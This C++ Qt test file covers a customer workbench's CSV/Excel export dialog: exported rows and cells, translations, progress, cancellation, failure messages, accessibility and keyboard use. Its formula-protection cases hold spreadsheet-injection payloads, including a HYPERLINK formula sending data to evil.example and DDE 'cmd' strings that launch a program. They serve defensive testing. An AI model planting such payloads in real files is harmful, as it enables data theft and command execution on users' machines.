// Exporting the workbench's rows: the file the dialog writes is read back with a reader of its
// own and compared, cell by cell, with the table's values rendered directly; cancellation and
// failures leave no file behind; the dialog is named for screen readers and works by keyboard.
#include "customer_table_model.h"
#include "engine/build.h"
#include "export_dialog.h"
#include "export_job.h"
#include "generate/generator.h"
#include "generated_customers.h"
#include "language.h"
#include "output/export_output.h"
#include "test_csv_reader.h"

#include <QAccessible>
#include <QApplication>
#include <QCheckBox>
#include <QComboBox>
#include <QDir>
#include <QFile>
#include <QHeaderView>
#include <QLabel>
#include <QLineEdit>
#include <QProgressBar>
#include <QPushButton>
#include <QScopeGuard>
#include <QSignalSpy>
#include <QTableView>
#include <QTemporaryDir>
#include <QTest>
#include <QTranslator>

#include <set>
#include <string_view>

using namespace c360;

namespace {

// Text salted into first_name and phone_number of the first rows, each with the cell a
// protected export must write: what a spreadsheet could run gets a leading ', while phone
// numbers and plain numbers come out exactly as the table holds them.
struct FormulaCase {
    std::string text;
    std::string protectedCell;
};
const std::vector<FormulaCase> kFormulaCases = {
    {"=SUM(A1)", "'=SUM(A1)"},
    {"=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")",
     "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")"},
    {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
    {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
    {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
    {"-x", "'-x"},
    {"\tz", "'\tz"},
    {"\rw", "'\rw"},
    {"\nv", "'\nv"},
    {"+1-555-0100", "+1-555-0100"},
    {"+49 30 7671226", "+49 30 7671226"},
    {"+44 (0)20 7946 0958", "+44 (0)20 7946 0958"},
    {"-12.50", "-12.50"},
    {"+1", "+1"},
    {"030/1234567", "030/1234567"},
    {"plain", "plain"},
};
constexpr std::int32_t kNegativeDays = -5; // a number that starts with '-' stays a number

// The cell a file must hold: the table's text, except the salted cells and the renamed
// category ("-" and a name), whose protected forms are spelled out rather than derived.
std::string expectedCell(const Customer360& t, Column c, std::uint32_t row, bool protect,
                         std::uint32_t renamedCategoryRow) {
    std::string s;
    t.appendCell(s, c, row);
    if (!protect)
        return s;
    if ((c == Column::FirstName || c == Column::PhoneNumber) && row < kFormulaCases.size())
        return kFormulaCases[row].protectedCell;
    if (c == Column::FavoriteCategory && t.favoriteCategory[row] != kNoDictEntry &&
        t.favoriteCategory[row] == t.favoriteCategory[renamedCategoryRow])
        return "'" + s; // every customer of the renamed category, not only the one found

    return s;
}

// Compares a written file with the table rendered directly; an empty string when they agree.
QString compareFile(const QString& path, const Customer360& t,
                    const std::vector<std::uint32_t>& rows, const std::vector<Column>& columns,
                    char delimiter, bool excel, bool protect, std::uint32_t renamedCategoryRow) {
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return "cannot open " + path;
    const QByteArray bytes = file.readAll();
    std::string_view text(bytes.constData(), static_cast<std::size_t>(bytes.size()));
    const std::string_view bom = "\xEF\xBB\xBF";
    if (text.substr(0, 3) == bom) {
        if (!excel)
            return "a byte order mark in a plain CSV";
        text.remove_prefix(3);
    } else if (excel) {
        return "no byte order mark in an Excel CSV";
    }
    Records records;
    QString problem;
    if (!readCsv(text, delimiter, excel ? "\r\n" : "\n", records, problem))
        return problem;
    if (records.size() != rows.size() + 1)
        return QString("%1 records for %2 rows").arg(records.size()).arg(rows.size());
    for (std::size_t c = 0; c < columns.size(); ++c)
        if (records[0].size() != columns.size() || records[0][c] != columnInfo(columns[c]).name)
            return QString("header column %1").arg(c);
    for (std::size_t r = 0; r < rows.size(); ++r) {
        const auto& record = records[r + 1];
        if (record.size() != columns.size())
            return QString("record %1 has %2 fields").arg(r + 1).arg(record.size());
        for (std::size_t c = 0; c < columns.size(); ++c) {
            const std::string expected =
                expectedCell(t, columns[c], rows[r], protect, renamedCategoryRow);
            if (record[c] != expected)
                return QString("row %1 (table row %2), %3: [%4] instead of [%5]")
                    .arg(r)
                    .arg(rows[r])
                    .arg(QString::fromUtf8(columnInfo(columns[c]).name))
                    .arg(QString::fromStdString(record[c]), QString::fromStdString(expected));
        }
    }
    return {};
}

template <class Widget> Widget* control(QWidget& dialog, const QString& accessibleName) {
    for (Widget* w : dialog.findChildren<Widget*>())
        if (w->accessibleName() == accessibleName)
            return w;
    return nullptr;
}

QStringList filesIn(const QString& folder) {
    return QDir(folder).entryList(QDir::Files | QDir::Hidden | QDir::NoDotAndDotDot);
}

QString customersText(std::size_t n) {
    return n == 1 ? QString("1 customer")
                  : QString("%1 customers").arg(QLocale().toString(static_cast<qulonglong>(n)));
}

// Collects progress calls and cancels at the `cancelAt`-th one (1-based; 0: never).
class RecordingObserver final : public ExportObserver {
public:
    explicit RecordingObserver(int cancelAt) : cancelAt_(cancelAt) {}
    void progress(std::uint64_t done, std::uint64_t total) override {
        calls.emplace_back(done, total);
    }
    bool cancelled() const override {
        return cancelAt_ > 0 && static_cast<int>(calls.size()) >= cancelAt_;
    }
    std::vector<std::pair<std::uint64_t, std::uint64_t>> calls;

private:
    int cancelAt_;
};

} // namespace

class TestExportDialog : public QObject {
    Q_OBJECT

private:
    QTemporaryDir sources_;
    std::shared_ptr<const Customer360> table_;
    std::vector<std::uint32_t> rows_; // a selection in an order of its own
    std::vector<Column> columns_;     // a view order of its own
    std::uint32_t renamedCategoryRow_ = 0;

    std::vector<std::uint32_t> repeatedRows(std::size_t count) const {
        std::vector<std::uint32_t> rows(count);
        for (std::size_t i = 0; i < count; ++i)
            rows[i] = static_cast<std::uint32_t>(i % table_->rowCount());
        return rows;
    }

    // Starts the dialog's export and waits for it; the finished signal's arguments.
    QList<QVariant> exportAndWait(ui::ExportDialog& dialog) {
        QSignalSpy finished(&dialog, &ui::ExportDialog::exportFinished);
        dialog.startExport();
        if (!dialog.isExporting() || !finished.wait(60000))
            return {};
        return finished.takeFirst();
    }

private slots:
    void initTestCase() {
        // The English plural forms ("1 customer", "2 customers") come from a translation.
        c360::ui::installTranslations(*QCoreApplication::instance(), QStringLiteral("en"));
        QLocale::setDefault(QLocale(QLocale::English, QLocale::UnitedStates));
        std::string error;
        BuildOutcome outcome;
        QVERIFY2(test::buildGeneratedCustomers(sources_.filePath("src").toStdString(), 2000, 11,
                                               outcome, error),
                 error.c_str());
        auto table = std::make_shared<Customer360>(std::move(outcome.table));
        QVERIFY(table->rowCount() > 1000);

        // Salt the first rows with formula-like names and negative numbers, and one category
        // name with a leading '-', so protection is exercised on text and dictionary columns.
        TextColumn names;
        TextColumn phones;
        for (std::size_t r = 0; r < table->rowCount(); ++r) {
            const bool salted = r < kFormulaCases.size();
            names.push(salted ? std::string_view(kFormulaCases[r].text) : table->firstName.at(r));
            phones.push(salted ? std::string_view(kFormulaCases[r].text)
                               : table->phoneNumber.at(r));
        }
        table->firstName = std::move(names);
        table->phoneNumber = std::move(phones);
        for (std::size_t r = 0; r < kFormulaCases.size(); ++r)
            table->daysSinceLastPurchase[r] = kNegativeDays;
        bool renamed = false;
        for (std::size_t r = 0; r < table->rowCount() && !renamed; ++r) {
            const std::int32_t id = table->favoriteCategory[r];
            if (id != kNoDictEntry) {
                std::string& name = table->categoryNames[static_cast<std::size_t>(id)];
                name = std::string("-").append(name);
                renamedCategoryRow_ = static_cast<std::uint32_t>(r);
                renamed = true;
            }
        }
        QVERIFY(renamed);
        table_ = table;

        // Every third row left out, the rest backwards: the file must follow this order.
        for (std::size_t r = table_->rowCount(); r-- > 0;)
            if (r % 3 != 1 || r < kFormulaCases.size())
                rows_.push_back(static_cast<std::uint32_t>(r));
        columns_ = {Column::Email,
                    Column::FirstName,
                    Column::PhoneNumber,
                    Column::TotalSpend,
                    Column::CustomerId,
                    Column::FavoriteCategory,
                    Column::LastPurchaseDate,
                    Column::DaysSinceLastPurchase,
                    Column::AvgSatisfactionScore,
                    Column::CustomerStatusColumn,
                    Column::LastName};
    }

    void shouldWriteWhatTheTableHolds_data() {
        QTest::addColumn<int>("formatIndex");
        QTest::addColumn<int>("delimiterIndex");
        QTest::addColumn<bool>("protect");
        const char* formats[] = {"CSV", "Excel"};
        const char* delimiters[] = {"comma", "semicolon", "tab"};
        for (int f = 0; f < 2; ++f)
            for (int d = 0; d < 3; ++d)
                for (const bool protect : {true, false})
                    QTest::addRow("%s, %s, %s", formats[f], delimiters[d],
                                  protect ? "protected" : "unprotected")
                        << f << d << protect;
    }

    void shouldWriteWhatTheTableHolds() {
        QFETCH(int, formatIndex);
        QFETCH(int, delimiterIndex);
        QFETCH(bool, protect);
        QTemporaryDir out;
        ui::ExportDialog dialog(table_, rows_, columns_);
        auto* format = control<QComboBox>(dialog, "Format");
        auto* delimiter = control<QComboBox>(dialog, "Delimiter");
        auto* protection = control<QCheckBox>(dialog, "Protect against spreadsheet formulas");
        QVERIFY(format && delimiter && protection);
        QCOMPARE(format->itemText(0), QString("CSV (UTF-8)"));
        QCOMPARE(format->itemText(1), QString("Excel (UTF-8 with BOM, CRLF)"));
        QVERIFY(protection->isChecked()); // on by default
        format->setCurrentIndex(formatIndex);
        delimiter->setCurrentIndex(delimiterIndex);
        protection->setChecked(protect);
        const QString summary = QString("%1, %2 columns will be written.")
                                    .arg(customersText(rows_.size()))
                                    .arg(columns_.size());
        bool summaryShown = false;
        for (QLabel* label : dialog.findChildren<QLabel*>())
            summaryShown = summaryShown || label->text() == summary;
        QVERIFY2(summaryShown, qPrintable(summary));

        const QString path = out.filePath("customers.csv");
        dialog.setOutputPath(path);
        const QList<QVariant> finished = exportAndWait(dialog);
        QCOMPARE(finished.size(), 3);
        QVERIFY2(finished[0].toBool(), qPrintable(finished[2].toString()));
        QCOMPARE(finished[1].toULongLong(), static_cast<qulonglong>(rows_.size()));
        const QString said = QString("Wrote %1 to customers.csv.").arg(customersText(rows_.size()));
        QCOMPARE(finished[2].toString(), said);
        QCOMPARE(dialog.statusText(), said);
        QCOMPARE(control<QProgressBar>(dialog, "Export progress")->value(), 100);
        QCOMPARE(control<QPushButton>(dialog, "Close")->text(), QString("&Close"));

        const char delimiterChar = ",;\t"[delimiterIndex];
        const QString problem = compareFile(path, *table_, rows_, columns_, delimiterChar,
                                            formatIndex == 1, protect, renamedCategoryRow_);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(filesIn(out.path()), QStringList{"customers.csv"}); // no temporary file left
    }

    // The contract's words by default; the workbench's, in its language, when the user asks.
    // The expected words are written out here (from translations/README.md's glossary), not
    // taken from the code that produces them.
    void shouldWriteTheWorkbenchsWordsOnlyWhenAsked_data() {
        QTest::addColumn<QString>("language");
        QTest::addColumn<bool>("labels");
        QTest::addColumn<QStringList>("header");
        QTest::addColumn<QStringList>("segments"); // Low, Medium, High
        QTest::addColumn<QStringList>("statuses"); // Active, At Risk, Churned, Never Purchased
        const QStringList contractHeader{"customer_id", "customer_value_segment", "customer_status",
                                         "total_spend"};
        const QStringList englishSegments{"Low", "Medium", "High"};
        const QStringList englishStatuses{"Active", "At Risk", "Churned", "Never Purchased"};
        QTest::newRow("English, contract values")
            << "en" << false << contractHeader << englishSegments << englishStatuses;
        QTest::newRow("German, contract values")
            << "de" << false << contractHeader << englishSegments << englishStatuses;
        QTest::newRow("English, labels") << "en" << true
                                         << QStringList{"Customer id", "Customer value segment",
                                                        "Customer status", "Total spend"}
                                         << englishSegments << englishStatuses;
        QTest::newRow("German, labels")
            << "de" << true
            << QStringList{"Kunden-ID", "Wertsegment", "Kundenstatus", "Gesamtumsatz"}
            << QStringList{"Niedrig", "Mittel", "Hoch"}
            << QStringList{"Aktiv", "Gefährdet", "Abgewandert", "Nie gekauft"};
    }

    void shouldWriteTheWorkbenchsWordsOnlyWhenAsked() {
        QFETCH(QString, language);
        QFETCH(bool, labels);
        QFETCH(QStringList, header);
        QFETCH(QStringList, segments);
        QFETCH(QStringList, statuses);
        auto* german = new QTranslator(this);
        if (language == "de") {
            QVERIFY(german->load(":/i18n/c360_de.qm"));
            QCoreApplication::installTranslator(german);
        }
        const auto removeGerman = qScopeGuard([german] {
            QCoreApplication::removeTranslator(german);
            delete german;
        });
        const std::vector<Column> columns{Column::CustomerId, Column::CustomerValueSegment,
                                          Column::CustomerStatusColumn, Column::TotalSpend};
        ui::ExportDialog dialog(table_, rows_, columns);
        auto* choice = dialog.findChild<QCheckBox*>("labelsCheckBox");
        QVERIFY(choice);
        QVERIFY(!choice->isChecked()); // the contract's words unless asked
        choice->setChecked(labels);
        QTemporaryDir out;
        dialog.setOutputPath(out.filePath("words.csv"));
        const QList<QVariant> finished = exportAndWait(dialog);
        QVERIFY2(finished.value(0).toBool(), qPrintable(finished.value(2).toString()));

        QFile file(out.filePath("words.csv"));
        QVERIFY(file.open(QIODevice::ReadOnly));
        const QByteArray bytes = file.readAll();
        Records records;
        QString problem;
        QVERIFY2(
            readCsv(std::string_view(bytes.constData(), static_cast<std::size_t>(bytes.size())),
                    ',', "\n", records, problem),
            qPrintable(problem));
        QCOMPARE(records.size(), rows_.size() + 1);
        QStringList writtenHeader;
        for (const std::string& field : records[0])
            writtenHeader << QString::fromStdString(field);
        QCOMPARE(writtenHeader, header);
        std::set<int> segmentsSeen, statusesSeen;
        for (std::size_t r = 0; r < rows_.size(); ++r) {
            const auto segment = static_cast<int>(table_->valueSegment[rows_[r]]);
            const auto status = static_cast<int>(table_->customerStatus[rows_[r]]);
            QCOMPARE(QString::fromStdString(records[r + 1][1]), segments[segment]);
            QCOMPARE(QString::fromStdString(records[r + 1][2]), statuses[status]);
            std::string id, spend;
            table_->appendCell(id, Column::CustomerId, rows_[r]);
            table_->appendCell(spend, Column::TotalSpend, rows_[r]);
            QCOMPARE(records[r + 1][0], id);    // the other cells are as ever
            QCOMPARE(records[r + 1][3], spend); // (a point, not a German comma)
            segmentsSeen.insert(segment);
            statusesSeen.insert(status);
        }
        // Every word was checked at least once.
        QCOMPARE(segmentsSeen.size(), std::size_t{3});
        QCOMPARE(statusesSeen.size(), std::size_t{4});
    }

    void shouldMakeFormulasHarmless_data() {
        QTest::addColumn<int>("row");
        QTest::addColumn<int>("column");
        QTest::addColumn<QString>("expected");
        for (const int column :
             {static_cast<int>(Column::FirstName), static_cast<int>(Column::PhoneNumber)})
            for (std::size_t r = 0; r < kFormulaCases.size(); ++r)
                QTest::addRow("%s in %s",
                              QByteArray::fromStdString(kFormulaCases[r].text)
                                  .toPercentEncoding(" =+-@()|'!&\",./*?:")
                                  .constData(),
                              columnInfo(static_cast<Column>(column)).name.data())
                    << static_cast<int>(r) << column
                    << QString::fromStdString(kFormulaCases[r].protectedCell);
        QTest::newRow("negative number")
            << 0 << static_cast<int>(Column::DaysSinceLastPurchase) << "-5";
        QTest::newRow("category") << -1 << static_cast<int>(Column::FavoriteCategory) << "";
    }

    void shouldMakeFormulasHarmless() {
        QFETCH(int, row);
        QFETCH(int, column);
        QFETCH(QString, expected);
        const std::uint32_t tableRow =
            row < 0 ? renamedCategoryRow_ : static_cast<std::uint32_t>(row);
        const auto col = static_cast<Column>(column);
        std::string raw;
        table_->appendCell(raw, col, tableRow);
        if (row < 0) { // the renamed category: its name as the table holds it, with a '
            QVERIFY(raw.size() > 1 && raw[0] == '-');
            expected = "'" + QString::fromStdString(raw);
        }
        for (const bool protect : {true, false}) {
            QTemporaryDir out;
            ui::ExportDialog dialog(table_, {tableRow}, {Column::CustomerId, col});
            control<QCheckBox>(dialog, "Protect against spreadsheet formulas")->setChecked(protect);
            dialog.setOutputPath(out.filePath("f.csv"));
            const QList<QVariant> finished = exportAndWait(dialog);
            QVERIFY(!finished.isEmpty() && finished[0].toBool());
            QFile file(out.filePath("f.csv"));
            QVERIFY(file.open(QIODevice::ReadOnly));
            const QByteArray bytes = file.readAll();
            Records records;
            QString problem;
            QVERIFY2(readCsv(std::string_view(bytes.constData(), bytes.size()), ',', "\n", records,
                             problem),
                     qPrintable(problem));
            QCOMPARE(records.size(), std::size_t{2});
            QCOMPARE(records[1].size(), std::size_t{2});
            const QString written = QString::fromStdString(records[1][1]);
            QCOMPARE(written, protect ? expected : QString::fromStdString(raw));
        }
    }

    // The core reports progress from 0 to all rows, every kExportProgressRows, and a cancel at
    // any report (the first one included) leaves neither the file nor a temporary file.
    void shouldReportProgressAndStopCleanly_data() {
        QTest::addColumn<int>("cancelAt");
        QTest::newRow("never") << 0;
        QTest::newRow("at the first progress") << 1;
        QTest::newRow("in the middle") << 2;
        QTest::newRow("at the last progress") << -1;
    }

    void shouldReportProgressAndStopCleanly() {
        QFETCH(int, cancelAt);
        const std::size_t total = 3 * kExportProgressRows + 17;
        const std::uint64_t reports = 1 + total / kExportProgressRows + 1; // 0, each block, all
        if (cancelAt < 0)
            cancelAt = static_cast<int>(reports);
        const std::vector<std::uint32_t> rows = repeatedRows(total);
        QTemporaryDir out;
        const std::string path = out.filePath("big.csv").toStdString();
        RecordingObserver observer(cancelAt);
        const ExportOutcome outcome = writeExport(*table_, rows, ExportOptions{}, path, &observer);
        if (cancelAt == 0) {
            QCOMPARE(outcome.status, ExportStatus::Ok);
            QCOMPARE(outcome.rowsWritten, std::uint64_t{total});
            QCOMPARE(observer.calls.size(), reports);
            for (std::size_t i = 0; i < observer.calls.size(); ++i) {
                QCOMPARE(observer.calls[i].second, std::uint64_t{total});
                const std::uint64_t expected =
                    std::min<std::uint64_t>(i * kExportProgressRows, total);
                QCOMPARE(observer.calls[i].first, expected);
            }
            // With no columns chosen every column is written, in catalogue order.
            std::vector<Column> all;
            for (const ColumnInfo& info : columnCatalogue())
                all.push_back(info.column);
            const QString allProblem = compareFile(out.filePath("big.csv"), *table_, rows, all, ',',
                                                   false, true, renamedCategoryRow_);
            QVERIFY2(allProblem.isEmpty(), qPrintable(allProblem));
            QCOMPARE(filesIn(out.path()), QStringList{"big.csv"});
        } else {
            QCOMPARE(outcome.status, ExportStatus::Cancelled);
            QCOMPARE(outcome.rowsWritten, std::uint64_t{0});
            QCOMPARE(observer.calls.size(), static_cast<std::size_t>(cancelAt));
            QCOMPARE(filesIn(out.path()), QStringList{});
        }
    }

    // The job delivers progress and the outcome on the UI thread; a job cancelled before its
    // first check writes nothing; destroying a running job waits for its worker.
    void shouldRunTheJobOnAWorker() {
        QTemporaryDir out;
        const std::vector<std::uint32_t> rows = repeatedRows(5 * kExportProgressRows);
        {
            ui::ExportJob job(table_, rows, ExportOptions{}, out.filePath("a.csv"));
            QSignalSpy progress(&job, &ui::ExportJob::progress);
            QSignalSpy finished(&job, &ui::ExportJob::finished);
            job.start();
            QVERIFY(finished.wait(60000));
            QVERIFY(!job.isRunning());
            QCOMPARE(finished[0][0].toBool(), true);
            QCOMPARE(finished[0][1].toULongLong(), static_cast<qulonglong>(rows.size()));
            QVERIFY(progress.size() >= 2);
            int last = -1;
            for (const QList<QVariant>& p : progress) {
                QVERIFY(p[0].toInt() > last);
                last = p[0].toInt();
            }
            QCOMPARE(last, 100);
            QCOMPARE(progress.last()[1].toULongLong(), static_cast<qulonglong>(rows.size()));
        }
        {
            ui::ExportJob job(table_, rows, ExportOptions{}, out.filePath("b.csv"));
            QSignalSpy finished(&job, &ui::ExportJob::finished);
            job.cancel();
            job.start();
            QVERIFY(finished.wait(60000));
            QCOMPARE(finished[0][0].toBool(), false);
            QCOMPARE(finished[0][1].toULongLong(), 0ULL);
            QCOMPARE(finished[0][2].toString(), QString("Export cancelled; no file was written."));
            QVERIFY(!QFile::exists(out.filePath("b.csv")));
        }
        {
            auto* job = new ui::ExportJob(table_, repeatedRows(1000000), ExportOptions{},
                                          out.filePath("c.csv"));
            job->start();
            delete job; // cancels and joins; must not crash or leave a temporary file
        }
        QCOMPARE(filesIn(out.path()), QStringList{"a.csv"});
    }

    // Esc during a long export cancels it (the dialog stays open and says so), and a file that
    // was being replaced keeps its old contents.
    void shouldCancelByKeyboardAndKeepTheOldFile() {
        QTemporaryDir out;
        const QString path = out.filePath("customers.csv");
        {
            QFile old(path);
            QVERIFY(old.open(QIODevice::WriteOnly));
            old.write("old contents\n");
        }
        ui::ExportDialog dialog(table_, repeatedRows(2000000), {Column::CustomerId, Column::Age});
        dialog.show();
        QVERIFY(QTest::qWaitForWindowExposed(&dialog));
        dialog.setOutputPath(path);
        dialog.startExport(); // the file exists: asks first
        QVERIFY(!dialog.isExporting());
        QVERIFY2(dialog.statusText().contains("already exists"), qPrintable(dialog.statusText()));
        QSignalSpy finished(&dialog, &ui::ExportDialog::exportFinished);
        dialog.startExport(); // Replace
        QVERIFY(dialog.isExporting());
        QTest::keyClick(&dialog, Qt::Key_Escape);
        QVERIFY(dialog.isVisible()); // Esc cancelled the export, it did not close the dialog
        QVERIFY(finished.wait(60000));
        QCOMPARE(finished[0][0].toBool(), false);
        QCOMPARE(dialog.statusText(), QString("Export cancelled; no file was written."));
        QCOMPARE(filesIn(out.path()), QStringList{"customers.csv"});
        QFile old(path);
        QVERIFY(old.open(QIODevice::ReadOnly));
        QCOMPARE(old.readAll(), QByteArray("old contents\n"));
        QTest::keyClick(&dialog, Qt::Key_Escape); // idle now: Esc closes
        QVERIFY(!dialog.isVisible());
    }

    void shouldExplainWhyAFileCannotBeWritten_data() {
        QTest::addColumn<QString>("where");
        QTest::newRow("read-only folder") << "readonly";
        QTest::newRow("missing folder") << "missing";
        QTest::newRow("a file used as a folder") << "file";
    }

    void shouldExplainWhyAFileCannotBeWritten() {
        QFETCH(QString, where);
        QTemporaryDir out;
        QString path;
        if (where == "readonly") {
            QVERIFY(QDir(out.path()).mkdir("ro"));
            QFile::setPermissions(out.filePath("ro"), QFile::ReadOwner | QFile::ExeOwner);
            QFile probe(out.filePath("ro/probe"));
            if (probe.open(QIODevice::WriteOnly)) { // root ignores permissions
                probe.remove();
                QSKIP("running as root: a read-only folder is writable");
            }
            path = out.filePath("ro/customers.csv");
        } else if (where == "missing") {
            path = out.filePath("no/such/folder/customers.csv");
        } else {
            QFile file(out.filePath("plain"));
            QVERIFY(file.open(QIODevice::WriteOnly));
            path = out.filePath("plain/customers.csv");
        }
        ui::ExportDialog dialog(table_, rows_, columns_);
        dialog.setOutputPath(path);
        const QList<QVariant> finished = exportAndWait(dialog);
        QCOMPARE(finished.size(), 3);
        QCOMPARE(finished[0].toBool(), false);
        const QString said = dialog.statusText();
        QVERIFY2(said.startsWith("The export failed and no file was written."), qPrintable(said));
        QVERIFY2(said.contains("Check that the folder exists"), qPrintable(said)); // what to do
        QVERIFY(!QFile::exists(path));
        QVERIFY(!dialog.isExporting());
        QVERIFY(control<QPushButton>(dialog, "Export")->isEnabled());
        QFile::setPermissions(out.filePath("ro"),
                              QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    }

    // Every control a keyboard reaches has a name for a screen reader, each combo a buddy
    // label, and Tab walks them in reading order.
    void shouldNameEveryControlAndTabInReadingOrder() {
        ui::ExportDialog dialog(table_, rows_, columns_);
        dialog.show();
        QVERIFY(QTest::qWaitForWindowActive(&dialog));
        QList<QWidget*> focusable;
        for (QWidget* w : dialog.findChildren<QWidget*>()) {
            if (!(w->focusPolicy() & Qt::TabFocus) || !w->isVisibleTo(&dialog))
                continue;
            focusable << w;
            QAccessibleInterface* a = QAccessible::queryAccessibleInterface(w);
            QVERIFY(a);
            QVERIFY2(!a->text(QAccessible::Name).isEmpty(), w->metaObject()->className());
        }
        QCOMPARE(focusable.size(), 8);
        for (QComboBox* combo : dialog.findChildren<QComboBox*>()) {
            bool hasBuddy = false;
            for (QLabel* label : dialog.findChildren<QLabel*>())
                hasBuddy = hasBuddy || label->buddy() == combo;
            QVERIFY2(hasBuddy, qPrintable(combo->accessibleName()));
        }
        auto* progress = control<QProgressBar>(dialog, "Export progress");
        QVERIFY(progress);
        QCOMPARE(QAccessible::queryAccessibleInterface(progress)->role(), QAccessible::ProgressBar);

        const QStringList order = {"Export file",
                                   "Browse for the export file",
                                   "Format",
                                   "Delimiter",
                                   "Protect against spreadsheet formulas",
                                   "Write labels and column titles as shown here",
                                   "Export",
                                   "Cancel"};
        QCOMPARE(QApplication::focusWidget()->accessibleName(), order[0]);
        for (int i = 1; i < order.size() * 2; ++i) { // twice round: the order wraps
            QTest::keyClick(QApplication::focusWidget(), Qt::Key_Tab);
            QCOMPARE(QApplication::focusWidget()->accessibleName(), order[i % order.size()]);
        }
    }

    // What MainWindow hands the dialog: the columns as the header shows them, after the user
    // moved and hid some, compared with the same moves made on a plain list.
    void shouldTakeTheVisibleColumnsInViewOrder() {
        ui::CustomerTableModel model;
        model.setTable(table_);
        QTableView view;
        view.setModel(&model);
        QHeaderView* header = view.horizontalHeader();
        header->setSectionsMovable(true);
        std::vector<int> expected(kColumnCount);
        for (std::size_t i = 0; i < kColumnCount; ++i)
            expected[i] = static_cast<int>(i);
        const auto move = [&](int from, int to) {
            header->moveSection(from, to);
            const int moved = expected[static_cast<std::size_t>(from)];
            expected.erase(expected.begin() + from);
            expected.insert(expected.begin() + to, moved);
        };
        move(0, 5);
        move(20, 1);
        move(kColumnCount - 1, 0);
        for (const Column hidden : {Column::Email, Column::Age, Column::CustomerId}) {
            header->setSectionHidden(static_cast<int>(hidden), true);
            std::erase(expected, static_cast<int>(hidden));
        }
        std::vector<Column> wanted;
        for (const int logical : expected)
            wanted.push_back(static_cast<Column>(logical));
        QVERIFY(ui::visibleColumnsInViewOrder(*header) == wanted);
        QCOMPARE(wanted.size(), kColumnCount - 3);
        QCOMPARE(wanted.front(), Column::WebsiteEngagementRate);
    }

    // Keys only: type the path, choose Excel, semicolon and no protection, Enter exports,
    // Enter again closes.
    void shouldCompleteByKeyboardAlone() {
        QTemporaryDir out;
        ui::ExportDialog dialog(table_, rows_, columns_);
        dialog.show();
        QVERIFY(QTest::qWaitForWindowActive(&dialog));
        const auto press = [](Qt::Key key, Qt::KeyboardModifiers mods = Qt::NoModifier) {
            QTest::keyClick(QApplication::focusWidget(), key, mods);
        };
        QCOMPARE(QApplication::focusWidget()->accessibleName(), QString("Export file"));
        press(Qt::Key_A, Qt::ControlModifier);
        const QString path = out.filePath("keyboard.csv");
        QTest::keyClicks(QApplication::focusWidget(), path);
        QCOMPARE(dialog.outputPath(), path);
        press(Qt::Key_Tab); // Browse
        press(Qt::Key_Tab); // Format
        press(Qt::Key_Down);
        press(Qt::Key_Tab); // Delimiter
        press(Qt::Key_Down);
        press(Qt::Key_Tab); // Protect
        press(Qt::Key_Space);
        const ExportOptions chosen = dialog.options();
        QVERIFY(chosen.excel);
        QCOMPARE(chosen.delimiter, ';');
        QVERIFY(!chosen.protectFormulas);
        QSignalSpy finished(&dialog, &ui::ExportDialog::exportFinished);
        press(Qt::Key_Return);
        QVERIFY(finished.wait(60000));
        QVERIFY2(finished[0][0].toBool(), qPrintable(finished[0][2].toString()));
        const QString problem =
            compareFile(path, *table_, rows_, columns_, ';', true, false, renamedCategoryRow_);
        QVERIFY2(problem.isEmpty(), qPrintable(problem));
        QCOMPARE(QApplication::focusWidget()->accessibleName(), QString("Close"));
        press(Qt::Key_Return);
        QVERIFY(!dialog.isVisible());
    }
};

QTEST_MAIN(TestExportDialog)
#include "test_export_dialog.moc"
